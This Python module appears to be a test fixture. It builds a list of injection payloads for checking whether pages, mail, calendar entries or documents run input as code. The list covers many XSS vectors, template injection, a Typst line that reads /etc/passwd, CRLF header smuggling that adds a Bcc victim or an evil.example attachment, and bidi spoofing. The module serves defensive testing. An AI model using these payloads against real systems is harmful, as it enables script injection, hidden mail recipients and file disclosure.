"""Texts that would run somewhere if a page, a mail, a calendar or a document took them as code.

Each that a browser could run counts itself up in `window.pwned`.
"""

RUN = "window.pwned=(window.pwned||0)+1"

_TAGS = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<a href='javascript:{run}' autofocus onfocus={run}>x</a>",
    "<form action='javascript:{run}'><button autofocus onfocus={run}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<style>@import 'javascript:{run}';</style>",
    "<link rel=stylesheet href='javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href='javascript:{run}//'>",
    "<template><script>{run}</script></template>",
    "<noscript><img src=x onerror={run}></noscript>",
)
_BEFORE = ("", '">', "'>", "</title>", "</textarea>", "--><!--><", "]]>")
_OTHERS = (
    "{{ 7 * 7 }}{% raw %}",
    "{{ cycler.__init__.__globals__ }}",
    "javascript:window.pwned=1",
    "data:text/html,<script>parent.pwned=1</script>",
    '#panic("pwned")',
    '#import "@preview/cetz:0.1.0"',
    '#read("/etc/passwd")',
    "$ sum $ `raw` <label> @ref *gras* _souligné_ // c /* d */ \\ ]",
    "] #panic() [",
    "BEGIN:VALARM\\nEND:VALARM",
    "x\r\nATTACH:http://evil.example/x",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    "x\r\nBcc: victim@example.org",
    "x\nBcc: victim@example.org\n\n<script>",
    "=?utf-8?q?=0D=0ABcc:_victim@example.org?=",
    "a@example.org, victim@example.org",
    "\u202egro.elpmaxe\u202c\u2066\u2069",
    "\u2028BEGIN:VEVENT\u2029",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1)) <javascript:alert(1)>",
    "\x00\x07\x0b\x0c\x1b[31m\x85",
)

PAYLOADS = tuple(before + tag.format(run=RUN) for before in _BEFORE for tag in _TAGS) + tuple(
    _OTHERS
)
